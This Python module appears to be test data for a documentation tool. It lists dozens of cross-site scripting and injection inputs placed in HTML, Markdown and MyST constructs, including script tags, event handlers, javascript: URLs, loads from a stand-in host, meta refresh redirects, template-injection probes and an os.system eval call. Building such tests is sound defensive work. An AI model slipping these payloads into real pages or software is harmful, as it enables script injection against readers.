"""Markup that would run, in every place where a page has words."""

from __future__ import annotations

from .kinds import HOST, HTML, RUN, Kind
from .kinds_files import DRAWING, NOTEBOOK, directive

LETS = "this lets raw HTML"
HANDLER = "this is a handler of events"
TEMPLATE = "this is a template"
ORDER = "this is for the reader's browser alone"
IMG = f'<img src=x onerror="{RUN}">'
SCRIPT = f"<script>{RUN}</script>"

BLOCKS = {
    "script": SCRIPT,
    "script-far": f"<script src={HOST}/x.js></script>",
    "script-space": f"<script\n>{RUN}</script\n>",
    "script-module": f"<script type=module>{RUN}</script>",
    "script-slash": f"<script/x>{RUN}</script>",
    "image": IMG,
    "image-inline": f"Words {IMG} words.",
    "image-open": f'<img src=x onerror="{RUN}"\n\n',
    "svg": f"<svg onload={RUN}></svg>",
    "svg-script": f"<svg><script>{RUN}</script></svg>",
    "math": f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    "frame": f'<iframe src="javascript:{RUN}"></iframe>',
    "frame-words": f'<iframe srcdoc="{SCRIPT}"></iframe>',
    "object": f"<object data={HOST}/x></object>",
    "embed": f"<embed src={HOST}/x>",
    "applet": f"<applet code={HOST}/x></applet>",
    "style": f"<style>@import '{HOST}/x.css';</style>",
    "style-attribute": f'<p style="background:url({HOST}/x)">words</p>',
    "link": f"<link rel=stylesheet href={HOST}/x.css>",
    "preload": f"<link rel=preload as=script href={HOST}/x.js>",
    "base": f"<base href={HOST}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url={HOST}/">',
    "policy": '<meta http-equiv=content-security-policy content="script-src *">',
    "form": f"<form action=javascript:{RUN}><button>x</button></form>",
    "input": f"<input autofocus onfocus={RUN}>",
    "button": f"<button formaction=javascript:{RUN}>x</button>",
    "details": f"<details open ontoggle={RUN}>x</details>",
    "video": f"<video><source onerror={RUN}></video>",
    "audio": f"<audio src={HOST}/x autoplay></audio>",
    "marquee": f"<marquee onstart={RUN}>x</marquee>",
    "body": f"<body onload={RUN}>",
    "portal": f"<portal src={HOST}/x></portal>",
    "template": f"<template>{SCRIPT}</template>",
    "noscript": f'<noscript><p title="</noscript><img src=x onerror={RUN}>"></noscript>',
    "textarea": f"<textarea autofocus onfocus={RUN}></textarea>",
    "dialog": f"<dialog open onclose={RUN}></dialog>",
    "popover": f"<p popover onbeforetoggle={RUN}>x</p>",
    "comment": f"<!--> {IMG} -->",
    "comment-if": f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
    "cdata": f"<![CDATA[ {SCRIPT} ]]>",
    "instruction": f"<?xml {IMG} ?>",
    "custom": f"<x-y onclick={RUN}>x</x-y>",
    "slash": f"</p{IMG}>",
    "paragraphs": f"<div>\n\n{IMG}\n\n</div>",
}
"""HTML as it stands in Markdown."""

WORDS = {
    "heading": f"## {IMG}",
    "heading-end": f"## </title>{SCRIPT}",
    "heading-index": f"## x</script>{SCRIPT}",
    "emphasis": f"**{IMG}**",
    "list": f"- {IMG}",
    "table": f"| {IMG} |\n|---|\n| {SCRIPT} |",
    "quote": f"> {IMG}",
    "term": f"{IMG}\n: {IMG}",
    "footnote": f"Words[^2].\n\n[^2]: {IMG}",
    "link-words": f"[{IMG}](https://example.org)",
    "link-title": f'[words](https://example.org "{IMG}")',
    "box": f":::{{note}}\n{IMG}\n:::",
    "box-title": f":::{{admonition}} {IMG}\nWords.\n:::",
    "card": f":::{{card}} {IMG}\n{IMG}\n:::",
    "folded": f":::{{dropdown}} {IMG}\n{IMG}\n:::",
    "tabs": f"::::{{tab-set}}\n:::{{tab-item}} {IMG}\n{IMG}\n:::\n::::",
    "rubric": f":::{{rubric}} {IMG}\n:::",
    "glossary": f":::{{glossary}}\n{IMG}\n  {IMG}\n:::",
    "exercise": f":::{{exercise}} {IMG}\n:label: hostile-exercise\n{IMG}\n:::",
    "list-table": f":::{{list-table}} {IMG}\n* - {IMG}\n  - {IMG}\n:::",
    "epigraph": f":::{{epigraph}}\n{IMG}\n:::",
}
"""The same within other things."""

SHOWN = [
    Kind("code", "", f"`{IMG}`"),
    Kind("code-block", "", f"```html\n{SCRIPT}\n```"),
    Kind("code-language", "", f'```html"><script>{RUN}</script>\nx\n```', by_build=False),
    Kind("code-directive", "", directive("code-block", "html", content=SCRIPT)),
    Kind("code-caption", "", directive("code-block", "html", f":caption: {IMG}", content=SCRIPT), by_build=False),
    Kind("comment-myst", "", f"% {SCRIPT}\n\nWords."),
    Kind("quoted", "", f"{{quoted}}`{IMG}`"),
    Kind("finding", "", f"{{finding}}`{IMG}`", by_build=False),
    Kind("claim", "", f"{{claim}}`{IMG}`", by_build=False),
    Kind("dataset", "", f"{{dataset}}`{IMG}`", by_build=False),
    Kind("cite", "", f"{{cite}}`{IMG}`", by_build=False),
    Kind("abbreviation", "", f'{{abbr}}`IOM ("><script>{RUN}</script>)`'),
    Kind("keyboard", "", f"{{kbd}}`{IMG}`"),
    Kind("math-text", "", f"{{math}}`\\text{{{IMG}}}`"),
    Kind("math-script", "", f"{{math}}`a {SCRIPT} b`", by_build=False),
    Kind("math-link", "", f"{{math}}`\\href{{javascript:{RUN}}}{{x}}`", by_build=False),
    Kind("math-class", "", f'{{math}}`\\class{{x" onclick="{RUN}}}{{x}}`', by_build=False),
    Kind("math-block", "", f"```{{math}}\n\\mathrm{{{IMG}}}\n```", by_build=False),
    Kind("option-class", "", f':::{{note}}\n:class: x"onclick="{RUN}\nWords.\n:::', by_build=False),
    Kind("option-name", "", f':::{{note}}\n:name: x"{IMG}\nWords.\n:::', by_build=False),
    Kind("label", "", f'(x"><script>{RUN}</script>)=\n## Words', by_build=False),
    Kind("alternative", "", "![<script>alert('canary')</script>](own-d.svg)", {"own-d.svg": DRAWING}, by_build=False),
    Kind("icon", "it has a handler of events", f'{{octicon}}`report;1em;x" onload="{RUN}`', by_checks=False),
    Kind("icon-fas", "", f'{{fas}}`x" onload="{RUN}`'),
    Kind("unknown-role", "", f"{{{IMG}}}`x`", by_build=False),
    Kind("bidi", "", "Words \u202e\u2066 with directions \u2069 in them."),
    Kind("separator", "", "Words \u2028 and \u2029 words."),
    Kind("attribute-handler", HANDLER, f'[words](https://example.org){{onclick="{RUN}"}}', by_build=False),
    Kind("attribute-handler-digit", HANDLER, '[words]{onclick="window.X=1"}', by_build=False),
    Kind("attribute-style", "", f'[words]{{style="background:url({HOST}/x)"}}', by_build=False),
    Kind("attribute-class", "", f'[words]{{class="x\\" onclick=\\"{RUN}"}}', by_build=False),
    Kind("attribute-picture", HANDLER, f'![a](own-e.svg){{onerror="{RUN}"}}', {"own-e.svg": DRAWING}, by_build=False),
    Kind("template", TEMPLATE, "{{7*7}}", by_build=False),
    Kind("template-class", TEMPLATE, "{{ ''.__class__.__mro__ }}", by_build=False),
    Kind("template-block", TEMPLATE, "{% for a in b %}x{% endfor %}", by_build=False),
    Kind("eval", "this is calculated", "{eval}`__import__('os').system('true')`", by_build=False),
    Kind("raw", f"{LETS}|this would stand", directive("raw", "html", content=SCRIPT)),
    Kind("raw-epub", f"{LETS}|this would stand", directive("raw", "html latex", content=IMG)),
    Kind("raw-role", f"{LETS}|this would stand", f"{{raw}}`{IMG}`", by_build=False),
    Kind(
        "raw-rst",
        f"{LETS}|this would stand",
        directive("eval-rst", content=f".. raw:: html\n\n   {SCRIPT}"),
    ),
    Kind(
        "raw-rst-role",
        f"{LETS}|this would stand",
        directive("eval-rst", content=f".. role:: x(raw)\n   :format: html\n\n:x:`{SCRIPT}`"),
    ),
    Kind(
        "raw-rst-meta",
        f"{LETS}|this is an order to the reader's browser",
        directive("eval-rst", content=f".. meta::\n   :http-equiv=refresh: 0;url={HOST}/"),
    ),
    Kind(
        "raw-new-role",
        "this would stand",
        f"```{{role}} y(raw)\n:format: html\n```\n\n{{y}}`{IMG}`",
        by_checks=False,
        by_build=False,
    ),
    Kind(
        "raw-cell",
        f"{ORDER}|this would stand",
        directive("raw-cell", "", ":format: text/html", content=SCRIPT),
        head=NOTEBOOK,
    ),
    Kind("meta", ORDER, directive("meta", "", f":http-equiv=refresh: 0;url={HOST}"), by_build=False),
    Kind("only", HTML, f":::{{only}} html\n{SCRIPT}\n:::", by_build=False),
]
"""Words in the places that have forms of their own."""

KINDS = [
    *(Kind(f"html-{name}", f"{HTML}|{HANDLER}", text, by_build=False) for name, text in BLOCKS.items()),
    *(Kind(f"words-{name}", HTML, text, by_build=False) for name, text in WORDS.items()),
    *SHOWN,
]
